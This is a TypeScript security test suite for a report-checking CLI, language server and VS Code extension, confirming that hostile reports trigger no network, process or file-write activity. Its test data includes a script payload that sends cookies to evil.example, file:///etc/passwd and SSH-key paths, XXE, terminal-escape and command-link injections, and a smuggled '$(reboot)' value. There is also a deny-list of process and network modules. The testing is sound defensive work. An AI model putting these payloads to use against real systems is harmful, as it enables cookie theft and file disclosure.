// The promises of SECURITY.md, one test each. A hostile report (URLs, file:// paths, <script>,
// images, entities, terminal escapes, huge numbers) is checked by the CLI and the language server
// running under Node's permission model (reading only what they are given; no writing, no child
// processes, no workers) with every network, process and file-writing API stubbed to record and
// refuse the call: nothing is attempted, nothing is denied, and the output shows the text inertly.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import type { CodeAction, Diagnostic, Hover } from 'vscode-languageserver-protocol';
import { check, readReport, toDiagnostic } from '../../server/src/core';
import { renderReport } from '../../server/src/core/render/report';
import { renderTable } from '../../server/src/core/render/tables';
import { previewHtml } from '../../server/src/core/preview/tables';
import { reviewPage } from '../../server/src/core/review/page';
import { reviewEntry } from '../../server/src/core/review/summary';
import { hoverAt } from '../../server/src/core/service/hover';
import { printable } from '../../server/src/cli/main';
import { noLinks } from '../../client/src/text';
import { SHOW_RULE } from '../../client/src/rulePages';
import { seed } from '../helpers/fixtures';
import { TestClient } from '../helpers/lspClient';

const ROOT = join(__dirname, '..', '..');
const CLI = join(ROOT, 'dist', 'cli.js');
const SERVER = join(ROOT, 'dist', 'server.js');
const SANDBOX = join(ROOT, 'test', 'helpers', 'sandbox.cjs');
const ESC = '\u001b';

/** Things a hostile report may name or contain. None of them may be fetched, opened, run or rendered live. */
const HOSTILE = [
  'https://evil.example/collect?d=1', 'http://169.254.169.254/latest/meta-data/', 'file:///etc/passwd', 'file://C:/Windows/win.ini',
  '\\\\evil.example\\share\\x.txt', '../../../../etc/shadow', '~/.ssh/id_rsa', 'javascript:alert(1)', 'command:workbench.action.terminal.new',
  '<script>fetch("https://evil.example/"+document.cookie)</script>', '<img src="https://evil.example/pixel.png">',
  '<iframe src="file:///etc/passwd"></iframe>', '<link rel="stylesheet" href="http://evil.example/a.css">', '<object data="file:///etc/hosts"></object>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">', '<base href="http://evil.example/">', '<style>@import url(http://evil.example/x.css);</style>',
  '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;', '&#x1b;[2J', '&#0;', '&lt;script&gt;', '![](https://evil.example/x.png)',
  '[点此](command:workbench.action.quit)', '<https://evil.example>', '${process.exit(1)}', '{{constructor.constructor("return process")().exit()}}',
  '__proto__', `${ESC}]0;pwned${ESC}\\`, `${ESC}[31m红${ESC}[0m`, `${ESC}]8;;https://evil.example${ESC}\\link${ESC}]8;;${ESC}\\`, '\u202e', '9'.repeat(400), '1e308', '-0',
];

/** Cell texts a clerk's report can carry where a number belongs. */
const HOSTILE_CELLS = ['![](//a.b/1.png)', '[1](command:x)', `${ESC}[2J5`, '<b>3</b>', '99999999999999999999', 'http://x.cn/1', '1e308', `7${ESC}]0;t${ESC}\\`];

function hostileReports(): { name: string; text: string }[] {
  const plain = seed('003').split('\n');
  // Prose lines and headings get the hostile strings; cells of table 三 get hostile values.
  const injected = plain.map((l, i) => (i % 9 === 4 ? `${l}${HOSTILE[i % HOSTILE.length]}` : l)).join('\n');
  let k = 0;
  const cells = (row: string) => (row === 'granted' || row === 'newReceived' ? HOSTILE_CELLS[k++ % HOSTILE_CELLS.length] : '0');
  const markdown = `${renderReport({ issuer: '某县', year: 2023, layout: 'markdown', value: cells })}\n\n${HOSTILE.join('\n\n')}\n`;
  const html = renderReport({ issuer: '某县', year: 2023, layout: 'html' }).replace('<table>', `${HOSTILE.slice(9, 22).join('\n')}\n<table>`);
  return [
    { name: 'injected.txt', text: injected },
    { name: 'markdown.md', text: markdown },
    { name: 'page.html', text: `<html><head>${HOSTILE[15]}</head><body>${html}</body></html>` },
    { name: 'escapes.txt', text: `一、总体情况${ESC}[8m\n${HOSTILE.join('\n')}\n` },
  ];
}

function sandboxAttempts(stderr: string): unknown[] {
  const m = /NIANBAO_SANDBOX (\[.*\])/.exec(stderr);
  assert.ok(m, `the sandbox did not report (stderr: ${stderr.slice(-500)})`);
  return JSON.parse(m[1]) as unknown[];
}

function listing(dir: string): string[] {
  return readdirSync(dir).sort().map((n) => `${n}:${statSync(join(dir, n)).size}:${statSync(join(dir, n)).mtimeMs}`);
}

test('the CLI checks hostile reports under the permission model with network, processes and file writes stubbed: nothing attempted, nothing written', () => {
  const dir = mkdtempSync(join(tmpdir(), 'nianbao-hostile-'));
  try {
    for (const r of hostileReports()) writeFileSync(join(dir, r.name), r.text);
    writeFileSync(join(dir, 'scan.txt'), Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0])); // a .docx saved as .txt
    // A project configuration is the folder's too: it can switch rules off and leave files out, nothing more.
    writeFileSync(join(dir, '.nianbao.jsonc'), JSON.stringify({
      $schema: 'https://evil.example/schema.json', rules: { [`${ESC}]0;pwned${ESC}\\`]: 'off', 'cell-blank': 'off' },
      ignore: ['../../../../etc/passwd', '/etc/**', 'file:///etc/passwd', `a/${'**/'.repeat(8)}b`], formatVersion: '$(reboot)',
    }));
    writeFileSync(join(dir, '.gitignore'), `/etc/shadow\n../**\n${'**/x/'.repeat(30)}\n`);
    const before = listing(dir);
    const node = ['--experimental-permission', `--allow-fs-read=${CLI}`, `--allow-fs-read=${SANDBOX}`, `--allow-fs-read=${dir}`, '--require', SANDBOX, CLI];
    for (const args of [['check', dir], ['check', '--format', 'json', dir], ['check', '--lang', 'en', join(dir, 'escapes.txt'), '-']]) {
      const r = spawnSync(process.execPath, [...node, ...args], { encoding: 'utf8', input: hostileReports()[3].text, cwd: dir });
      assert.equal(r.status, 2, `${args.join(' ')}: exit ${r.status} (2: the configuration's problems, and the binary scan.txt is refused; the rest checked)\n${r.stderr}`);
      assert.match(r.stderr, /\.nianbao\.jsonc:1:\d+ (项目配置有误：未知的规则“\\u\{1b\}\]0;pwned|error in the project configuration: Unknown rule “\\u\{1b\}\]0;pwned)/);
      assert.doesNotMatch(r.stderr, /ERR_ACCESS_DENIED|nianbao sandbox:/);
      assert.deepEqual(sandboxAttempts(r.stderr), [], 'attempted calls');
      const whole = args.includes(dir);
      if (whole) assert.ok(r.stdout.includes(args.includes('json') ? '"code": "cell-not-number"' : ' cell-not-number '), r.stdout.slice(0, 500));
      // The terminal sees no escape sequence from a report, and every diagnostic stays one line.
      assert.ok(!r.stdout.includes(ESC) && !r.stderr.includes(ESC), 'a raw ESC reached the terminal');
      if (!args.includes('json')) {
        for (const line of r.stdout.trimEnd().split('\n').slice(0, -1)) assert.match(line, /^(\/|-).*:\d+:\d+ (error|warning|info|hint) [a-z-]+ /);
        if (whole) assert.match(r.stdout, /\\u\{1b\}/);
      }
    }
    assert.deepEqual(listing(dir), before, 'the CLI changed the directory');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the CLI has no option that writes a file (so none can overwrite one); a new one needs --force and a test here', () => {
  const usage = spawnSync(process.execPath, [CLI, '--help'], { encoding: 'utf8' }).stdout;
  const options = [...usage.matchAll(/^\s+(-\w, )?(--[a-z-]+)/gm)].map((m) => m[2]).sort();
  assert.deepEqual(options, ['--baseline', '--blank-as-zero', '--dry-run', '--fix', '--force', '--format', '--format-version', '--help', '--jobs', '--lang', '--max-file-size', '--output', '--update-baseline', '--version', '--with'],
    'An option that writes files (import, check --output) must refuse to overwrite an existing file unless --force: add that test here.');
  // --fix writes only the files it checked, each only as it was read (cliFix.test.ts and the source check below).
  for (const flag of ['-o', '--out', '--write']) {
    const r = spawnSync(process.execPath, [CLI, 'check', flag, '/tmp/x', join(ROOT, 'examples')], { encoding: 'utf8' });
    assert.equal(r.status, 2, flag);
    assert.match(r.stderr, /未知选项|unknown option|只用于命令/);
  }
});

test('nianbao import never overwrites an existing file unless --force', () => {
  const dir = mkdtempSync(join(tmpdir(), 'nianbao-import-'));
  try {
    writeFileSync(join(dir, 'r.html'), '<p>某县某局2023年政府信息公开工作年度报告</p><table><tr><td>规章</td><td>1</td></tr></table>');
    writeFileSync(join(dir, 'r.md'), 'mine');
    const run = (...args: string[]) => spawnSync(process.execPath, [CLI, 'import', ...args, join(dir, 'r.html')], { encoding: 'utf8' });
    const refused = run();
    assert.equal(refused.status, 2);
    assert.match(refused.stderr, /文件已存在/);
    assert.equal(readFileSync(join(dir, 'r.md'), 'utf8'), 'mine');
    const forced = run('--force');
    assert.equal(forced.status, 0, forced.stderr);
    assert.match(readFileSync(join(dir, 'r.md'), 'utf8'), /\| 规章 \| 1 +\|/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('check --output writes one new file: never over an existing one without --force, never over a file it is given to check', () => {
  const dir = mkdtempSync(join(tmpdir(), 'nianbao-output-sec-'));
  try {
    const report = join(dir, 'r.txt');
    writeFileSync(report, readFileSync(join(ROOT, 'examples', readdirSync(join(ROOT, 'examples')).find((n) => n.startsWith('001'))!)));
    const kept = readFileSync(report);
    const page = join(dir, 'review.html');
    writeFileSync(page, 'precious');
    const run = (...args: string[]) => spawnSync(process.execPath, [CLI, 'check', '--format', 'html', ...args], { encoding: 'utf8' });
    const refused = run('--output', page, dir);
    assert.equal(refused.status, 2);
    assert.match(refused.stderr, /文件已存在/);
    assert.equal(readFileSync(page, 'utf8'), 'precious');
    const itself = run('--output', report, '--force', report);
    assert.equal(itself.status, 2);
    assert.match(itself.stderr, /它是要检查的文件/);
    assert.deepEqual(readFileSync(report), kept);
    const forced = run('--output', page, '--force', dir);
    assert.ok(forced.status! <= 1, forced.stderr);
    assert.match(readFileSync(page, 'utf8'), /^<!DOCTYPE html>/);
    assert.match(readFileSync(page, 'utf8'), /data-file="[^"]*r\.txt"/);
    assert.doesNotMatch(readFileSync(page, 'utf8'), /data-file="[^"]*review\.html"/, 'the output file is not checked');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('export writes one file, never over an existing one without --force, never over the report; its option list is pinned', () => {
  const usage = spawnSync(process.execPath, [CLI, 'export', '--help'], { encoding: 'utf8' }).stdout;
  const options = [...usage.matchAll(/^\s+(-\w, )?(--[a-z-]+)/gm)].map((m) => m[2]).sort();
  assert.deepEqual(options, ['--blank-as-zero', '--force', '--help', '--lang', '--output', '--to'],
    'A new export option that writes must keep the --force rule: add its test here.');
  const dir = mkdtempSync(join(tmpdir(), 'nianbao-export-sec-'));
  try {
    const report = join(dir, 'r.html');
    writeFileSync(report, readFileSync(join(ROOT, 'examples', readdirSync(join(ROOT, 'examples')).find((n) => n.startsWith('001'))!)));
    const other = join(dir, 'other.docx');
    writeFileSync(other, 'precious');
    const before = listing(dir);
    for (const args of [['--to', 'docx', '--output', other, report], ['--to', 'html', report], ['--to', 'html', '--force', report]]) {
      const r = spawnSync(process.execPath, [CLI, 'export', ...args], { encoding: 'utf8' });
      assert.equal(r.status, 2, args.join(' '));
    }
    assert.deepEqual(listing(dir), before, 'export changed a file it must not');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('CLI text output shows control characters and bidi controls as escapes (JSON escapes them itself)', () => {
  assert.equal(printable(`a${ESC}[2Jb\r\nc\u202ed\u0000`), 'a\\u{1b}[2Jb\\u{d}\\u{a}c\\u{202e}d\\u{0}');
  assert.equal(printable('正常的消息 1,234。'), '正常的消息 1,234。');
});

test('hover Markdown shows a cell\'s text literally: no image to fetch, no link to follow', () => {
  const cells = (row: string, col: string) => (row === 'granted' && col === 'naturalPerson' ? '![](//a.b/1.png)' : row === 'granted' && col === 'commercial' ? '[1](command:x)' : '0');
  const text = `三、收到和处理政府信息公开申请情况\n${renderTable('applications', '2021', 'markdown', cells)}`;
  const report = readReport(text);
  const granted = report.tables.applications!.rows.find((r) => r.key === 'granted')!;
  for (const cell of granted.cells.slice(0, 2)) {
    const md = hoverAt(report, cell.range.start, 'zh-CN')!.markdown;
    assert.ok(md.includes('\\!\\[\\]\\(//a\\.b/1\\.png\\)') || md.includes('\\[1\\]\\(command\\:x\\)'), md);
    assert.doesNotMatch(md, /(^|[^\\])!\[|(^|[^\\])\]\(/);
  }
});

test('a file name shown in a notification cannot become a command link', () => {
  assert.equal(noLinks('[点此](command:workbench.action.quit).txt'), '[点此]\u200b(command:workbench.action.quit).txt');
  assert.doesNotMatch(noLinks('[a] (https://x) [b](file:///y)'), /\]\s*\(/);
  assert.equal(noLinks('2023年报告.txt'), '2023年报告.txt');
});

test('the language server serves hostile reports under the permission model with network, processes and file writes stubbed: nothing attempted', async () => {
  const c = await TestClient.start({
    pull: true,
    nodeArgs: ['--experimental-permission', `--allow-fs-read=${SERVER}`, `--allow-fs-read=${SANDBOX}`, '--require', SANDBOX],
    // A project configuration as the client passes it: a text, never a file the server would open.
    settings: { project: { uri: 'file:///etc/.nianbao.jsonc', text: `{"$schema": "https://evil.example/s.json", "rules": {"${ESC}]0;x": "off"}, "ignore": ["/etc/passwd", "../**"]` } },
  });
  const exited = new Promise<void>((resolve) => c.proc.once('exit', () => resolve()));
  try {
    for (const r of hostileReports()) {
      const uri = `file:///hostile/${r.name}`;
      c.open(uri, r.text);
      const ds = await c.diagnostics(uri);
      assert.deepEqual(ds.map((d) => d.code), check(r.text).findings.map((f) => f.ruleId), r.name);
      const { report } = check(r.text);
      const cells = [report.tables.active, report.tables.applications, report.tables.reviewLitigation].flatMap((t) => t?.rows.flatMap((row) => row.cells) ?? []);
      for (const cell of cells) {
        const h = await c.request<Hover | null>('textDocument/hover', { textDocument: { uri }, position: cell.range.start });
        const md = h ? (h.contents as { value: string }).value : '';
        assert.doesNotMatch(md, /(^|[^\\])!\[|(^|[^\\])\]\(|<(img|script|iframe)/i, `${r.name}: hover ${md}`);
      }
      await c.request('textDocument/documentSymbol', { textDocument: { uri } });
      await c.request('textDocument/foldingRange', { textDocument: { uri } });
      const actions: CodeAction[] = await c.codeActions(uri, { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, [], ['source.fixAll']);
      for (const d of ds.slice(0, 20)) actions.push(...await c.codeActions(uri, d.range, [d]));
      await c.request('workspace/executeCommand', { command: 'nianbao.server.recomputeTotals', arguments: [{ uri }] });
      // A check-text request names a file; the server checks the text it is sent and opens nothing.
      for (const u of ['file:///etc/passwd', 'https://evil.example/report.txt', '\\\\evil\\share\\r.txt']) {
        const checked = await c.request<{ diagnostics: Diagnostic[] }>('nianbao/checkText', { uri: u, text: r.text });
        assert.equal(checked.diagnostics.length, ds.length);
      }
    }
    await c.conn.sendRequest('shutdown');
    await c.conn.sendNotification('exit');
    await Promise.race([exited, new Promise((resolve) => setTimeout(resolve, 5000).unref())]);
    assert.notEqual(c.proc.exitCode, null, 'the server exited');
    assert.doesNotMatch(c.stderr, /ERR_ACCESS_DENIED|nianbao sandbox:/);
    assert.ok(!c.logs.some((l) => /ERR_ACCESS_DENIED|nianbao sandbox:/.test(l)), c.logs.join('\n'));
    assert.deepEqual(sandboxAttempts(c.stderr), [], 'attempted calls');
  } finally {
    if (c.proc.exitCode === null) await c.stop();
    else c.conn.dispose();
  }
});

// ── What the source may use ────────────────────────────────────────────────

function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? sources(p) : /\.ts$/.test(n) ? [p] : [];
  });
}

const SHIPPED = [...sources(join(ROOT, 'server', 'src')), ...sources(join(ROOT, 'client', 'src'))];

test('shipped code imports no module that runs programs or opens connections, and evaluates no code', () => {
  const forbidden = /^(node:)?(child_process|net|tls|dgram|dns|http|https|http2|worker_threads|cluster|vm|inspector)(\/|$)/;
  // The CLI's worker threads: its own checking code, from its own script beside it, never code given as text.
  const workerFiles = [join('cli', 'pool.ts'), join('cli', 'worker.ts')];
  for (const f of SHIPPED) {
    const src = readFileSync(f, 'utf8');
    const mayUseWorkers = workerFiles.some((w) => f.endsWith(w));
    for (const m of src.matchAll(/(?:import|export)[^'"]*?from\s+['"]([^'"]+)['"]|require\(\s*['"]([^'"]+)['"]\s*\)|import\(\s*['"]([^'"]+)['"]\s*\)/g)) {
      const spec = m[1] ?? m[2] ?? m[3];
      if (mayUseWorkers && /^(node:)?worker_threads$/.test(spec)) continue;
      assert.doesNotMatch(spec, forbidden, `${f} imports ${spec}`);
    }
    if (mayUseWorkers) {
      assert.doesNotMatch(src, /\beval\s*:/, `${f} starts a worker from code given as text`);
      for (const w of src.matchAll(/new Worker\(([^,)]*)/g)) assert.equal(w[1], 'WORKER_SCRIPT', f);
    }
    assert.doesNotMatch(src, /\b(fetch|eval|XMLHttpRequest|WebSocket)\s*\(|new\s+Function\s*\(|\bopenExternal\b|createTerminal|executeTask|startDebugging/, f);
  }
});

test('shipped code writes only what the user asks: export\'s output, import\'s texts, --fix\'s reports, the baseline (the server\'s workspace scan only reads); the client the file picked and the baseline', () => {
  for (const f of SHIPPED) {
    const src = readFileSync(f, 'utf8');
    const fsImports = [...src.matchAll(/from\s+['"](?:node:)?fs(?:\/promises)?['"]/g)];
    if (f.endsWith(join('cli', 'files.ts'))) {
      const names = /import\s*\{([^}]*)\}\s*from\s+['"]node:fs['"]/.exec(src)![1].split(',').map((s) => s.trim()).sort();
      assert.deepEqual(names, ['closeSync', 'constants', 'fstatSync', 'lstatSync', 'openSync', 'readSync', 'readdirSync', 'statSync', 'type Dirent', 'type Stats']);
      // The one open: read-only (non-blocking, so a FIFO cannot hang it), never creating or writing.
      const opens = [...src.matchAll(/openSync\(([^;]*)\);/g)].map((m) => m[1]);
      assert.equal(opens.length, 1, 'one openSync');
      assert.match(opens[0], /constants\.O_RDONLY/);
      assert.doesNotMatch(opens[0], /O_WRONLY|O_RDWR|O_CREAT|O_TRUNC|O_APPEND|['"][wa+]/);
    } else if (f.endsWith(join('cli', 'export.ts'))) {
      // `export` writes its one output: created exclusively (never over an existing file) unless --force.
      const names = /import\s*\{([^}]*)\}\s*from\s+['"]node:fs['"]/.exec(src)![1].split(',').map((s) => s.trim()).sort();
      assert.deepEqual(names, ['closeSync', 'openSync', 'realpathSync', 'writeSync']);
      const opens = [...src.matchAll(/openSync\(([^;]*)\);/g)].map((m) => m[1]);
      assert.deepEqual(opens, ["path, force ? 'w' : 'wx', 0o644"]);
    } else if (f.endsWith(join('cli', 'fix.ts'))) {
      // `check --fix` writes a report it read back over itself: a new file created exclusively beside it, renamed over it.
      const names = /import\s*\{([^}]*)\}\s*from\s+['"]node:fs['"]/.exec(src)![1].split(',').map((s) => s.trim()).sort();
      assert.deepEqual(names, ['closeSync', 'fchmodSync', 'fstatSync', 'fsyncSync', 'openSync', 'realpathSync', 'renameSync', 'unlinkSync', 'writeSync']);
      const opens = [...src.matchAll(/openSync\(([^;]*)\);/g)].map((m) => m[1]);
      assert.deepEqual(opens, ["temp, 'wx', 0o600", "path, 'r'"]);
      assert.deepEqual([...src.matchAll(/renameSync\(([^;]*)\);/g)].map((m) => m[1]), ['temp, path']);
      assert.match(src, /if \(!Buffer\.from\(now\.bytes\)\.equals\(Buffer\.from\(original\)\)\) return/, 'written only over the bytes it read');
    } else if (f.endsWith(join('cli', 'outputFile.ts'))) {
      // `check --output` writes its one output: created exclusively (never over an existing file) unless --force.
      const names = /import\s*\{([^}]*)\}\s*from\s+['"]node:fs['"]/.exec(src)![1].split(',').map((s) => s.trim()).sort();
      assert.deepEqual(names, ['closeSync', 'openSync', 'writeSync']);
      const opens = [...src.matchAll(/openSync\(([^;]*)\)/g)].map((m) => m[1]);
      assert.deepEqual(opens, ["path, force ? 'w' : 'wx', 0o644"]);
    } else if (f.endsWith(join('cli', 'importCommand.ts'))) {
      // `nianbao import` writes its outputs: new files only ('wx'), unless --force; the folders they go to (a walked folder's subfolders under --output).
      const names = /import\s*\{([^}]*)\}\s*from\s+['"]node:fs['"]/.exec(src)![1].split(',').map((s) => s.trim());
      assert.deepEqual(names, ['mkdirSync', 'writeFileSync']);
      assert.deepEqual([...src.matchAll(/mkdirSync\(([^;]*)\);/g)].map((m) => m[1]), ['dirname(path), { recursive: true }']);
      const writes = [...src.matchAll(/writeFileSync\(([^;]*)\);/g)].map((m) => m[1]);
      assert.equal(writes.length, 1, 'one writeFileSync');
      assert.match(writes[0], /flag: force \? 'w' : 'wx'/);
    } else if (f.endsWith(join('cli', 'held.ts'))) {
      // A batch's results waiting their turn: one file, private, in a new folder of its own under the temporary folder, removed.
      const names = /import\s*\{([^}]*)\}\s*from\s+['"]node:fs['"]/.exec(src)![1].split(',').map((s) => s.trim()).sort();
      assert.deepEqual(names, ['closeSync', 'mkdtempSync', 'openSync', 'readSync', 'rmSync', 'writeSync']);
      assert.deepEqual([...src.matchAll(/mkdtempSync\(([^;]*)\);/g)].map((m) => m[1]), ["join(tmpdir(), 'nianbao-')"]);
      assert.deepEqual([...src.matchAll(/openSync\(([^;]*)\);/g)].map((m) => m[1]), ["join(dir, 'held'), 'w+', 0o600"]);
      assert.deepEqual([...src.matchAll(/rmSync\(([^;]*)\);/g)].map((m) => m[1]), ['dir, { recursive: true, force: true }']);
    } else if (f.endsWith(join('lsp', 'reportFiles.ts'))) {
      // The server's workspace scan: a report file's first bytes, opened read-only and non-blocking.
      const names = /import\s*\{([^}]*)\}\s*from\s+['"]node:fs['"]/.exec(src)![1].split(',').map((s) => s.trim()).sort();
      assert.deepEqual(names, ['constants', 'realpathSync']);
      assert.match(src, /import \{ open \} from 'node:fs\/promises';/);
      const opens = [...src.matchAll(/await open\(([^;]*)\);/g)].map((m) => m[1]);
      assert.deepEqual(opens, ['path, constants.O_RDONLY | (constants.O_NONBLOCK ?? 0)']);
    } else {
      assert.equal(fsImports.length, 0, `${f} imports fs`);
    }
    // The client reads workspace files through vscode.workspace.fs (virtual workspaces too) and writes only
    // an export or the review page, to the file the user picked in the save dialog.
    const writes = /workspace\.fs\.(writeFile|delete|rename|copy|createDirectory)|\.fsPath\b|WorkspaceEdit\(\).*createFile/;
    if (f.endsWith(join('client', 'src', 'export.ts')) || f.endsWith(join('client', 'src', 'review.ts'))) {
      assert.deepEqual([...src.matchAll(new RegExp(writes, 'g'))].map((m) => m[0]), ['workspace.fs.writeFile']);
      assert.match(src, /showSaveDialog/);
    } else if (f.endsWith(join('client', 'src', 'baseline.ts'))) {
      // 标记为已核实 writes one file: the baseline at the root of the report's workspace folder.
      assert.deepEqual([...src.matchAll(/workspace\.fs\.writeFile\(([^,]*),/g)].map((m) => m[1]), ['file']);
      assert.match(src, /const file = vscode\.Uri\.joinPath\(folder\.uri, BASELINE_FILE\);/);
    } else assert.doesNotMatch(src, writes, f);
  }
});

// ── The extension's declared behaviour ─────────────────────────────────────

const pkg = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8'));
const nls = JSON.parse(readFileSync(join(ROOT, 'package.nls.json'), 'utf8'));
const nlsZh = JSON.parse(readFileSync(join(ROOT, 'package.nls.zh-cn.json'), 'utf8'));

test('untrusted and virtual workspaces: fully supported, declared with a reason in both languages, and the code keeps that promise', () => {
  const caps = pkg.capabilities;
  for (const [key, ref] of [['untrustedWorkspaces', '%untrusted%'], ['virtualWorkspaces', '%virtual%']] as const) {
    assert.equal(caps[key].supported, true, key);
    assert.equal(caps[key].description, ref, key);
    const k = ref.slice(1, -1);
    assert.ok(nls[k] && /[\u4e00-\u9fff]/.test(nlsZh[k]), `${k} is translated`);
  }
  // Untrusted: no setting names a program, a path to run or a command line (so a workspace's
  // settings cannot make the extension execute anything), and nothing is executed (previous test).
  for (const [name, p] of Object.entries(pkg.contributes.configuration.properties) as [string, { type: string; scope?: string }][]) {
    assert.doesNotMatch(name, /path|command|exec|program|binary|shell|url|server\.(?!trace)/i, `${name} looks like a setting that runs or fetches something`);
    assert.ok(['string', 'number', 'object', 'array', 'boolean'].includes(p.type), name);
  }
  // Virtual: the server gets documents' text only through document sync; only its workspace scan
  // reads files (reportFiles.ts, previous test), and only those of `file:` folders (a virtual folder's
  // reports are the open ones). The client's document selector names a language, not the file scheme,
  // and files are read through vscode.workspace.fs (previous test).
  const client = readFileSync(join(ROOT, 'client', 'src', 'extension.ts'), 'utf8');
  assert.match(client, /documentSelector:\s*\[\{\s*language:\s*LANGUAGE_ID\s*\}\]/);
  assert.doesNotMatch(client, /scheme:\s*['"]file['"]/);
  for (const f of sources(join(ROOT, 'server', 'src', 'lsp'))) {
    if (!f.endsWith('reportFiles.ts')) assert.doesNotMatch(readFileSync(f, 'utf8'), /from\s+['"](node:)?fs/, f);
  }
  const scan = readFileSync(join(ROOT, 'server', 'src', 'lsp', 'crossReports.ts'), 'utf8');
  assert.match(scan, /if \(!uri\.startsWith\('file:'\)\) return null;/, 'only file: URIs are mapped to paths');
});

/**
 * A webview's HTML must carry a strict Content-Security-Policy: nothing by default, scripts only
 * with a nonce, no remote sources, no inline event handlers. Ready for the first webview.
 */
export function assertStrictCsp(html: string): void {
  const meta = /<meta\s+http-equiv=["']Content-Security-Policy["']\s+content=(["'])(.*?)\1/i.exec(html);
  assert.ok(meta, 'the webview HTML has no Content-Security-Policy meta tag');
  const policy = new Map(meta[2].split(';').map((d) => d.trim()).filter(Boolean).map((d) => [d.split(/\s+/)[0], d.split(/\s+/).slice(1)] as [string, string[]]));
  assert.deepEqual(policy.get('default-src'), ["'none'"], 'default-src must be none');
  for (const [directive, sources] of policy) {
    for (const s of sources) {
      assert.doesNotMatch(s, /^(\*|https?:|http:|data:|'unsafe-eval'|'unsafe-inline')$|^https?:\/\//, `${directive} allows ${s}`);
    }
  }
  const scripts = policy.get('script-src') ?? [];
  assert.ok(scripts.every((s) => /^'nonce-[A-Za-z0-9+/=]{16,}'$/.test(s) || s === '${webview.cspSource}' || /^vscode-(resource|webview):/.test(s)), `script-src ${scripts.join(' ')}`);
  assert.doesNotMatch(html, /\son[a-z]+\s*=/i, 'inline event handlers');
}

test('webviews: the table preview and the review page only, each page with a strict policy; the CSP check itself', () => {
  const uses = SHIPPED.filter((f) => /createWebviewPanel|registerWebviewViewProvider|registerCustomEditorProvider|registerCustomTextEditorProvider|\.webview\b/.test(readFileSync(f, 'utf8')));
  assert.deepEqual(uses.map((f) => relative(ROOT, f)), [join('client', 'src', 'preview.ts'), join('client', 'src', 'review.ts')], 'A webview was added: render its HTML here and check it with assertStrictCsp (SECURITY.md).');
  const review = readFileSync(join(ROOT, 'client', 'src', 'review.ts'), 'utf8');
  assert.match(review, /enableScripts: false, enableCommandUris: \[SHOW_RULE\], localResourceRoots: \[\]/, 'the review page runs no script, loads no local resource, and its links run only nianbao.showRule');
  assert.equal(SHOW_RULE, 'nianbao.showRule');
  assert.equal((review.match(/enableCommandUris/g) ?? []).length, 1);
  const entries = ['003', '004'].map((name) => reviewEntry(name, check(seed(name)).report, check(seed(name)).findings.map((f) => toDiagnostic(f))));
  assertStrictCsp(reviewPage({ entries: [...entries, { file: '<script>alert(1)</script>', body: '<script>', findings: [] }], folders: ['<b>'], date: '2025-01-01', lang: 'zh-CN' }));
  const preview = readFileSync(join(ROOT, 'client', 'src', 'preview.ts'), 'utf8');
  assert.match(preview, /localResourceRoots: \[\]/, 'the preview loads no local resource');
  assert.doesNotMatch(preview, /enableCommandUris/);
  for (const name of ['003', '004']) {
    const r = check(seed(name));
    assertStrictCsp(previewHtml(r.report, r.findings, { lang: 'zh-CN', nonce: 'cHJldmlldy1zZWN1cml0eQ==' }));
  }
  // The check itself: a strict policy passes, the usual mistakes do not.
  const nonce = 'r4nd0mN0nceValue1234';
  assertStrictCsp(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src \${webview.cspSource}; script-src 'nonce-${nonce}';"><script nonce="${nonce}" src="x.js"></script>`);
  for (const bad of [
    '<p>no policy</p>',
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'unsafe-inline'">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src https:">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'nonce-${nonce}'"><img src=x onerror="alert(1)">`,
  ]) assert.throws(() => assertStrictCsp(bad), bad);
});
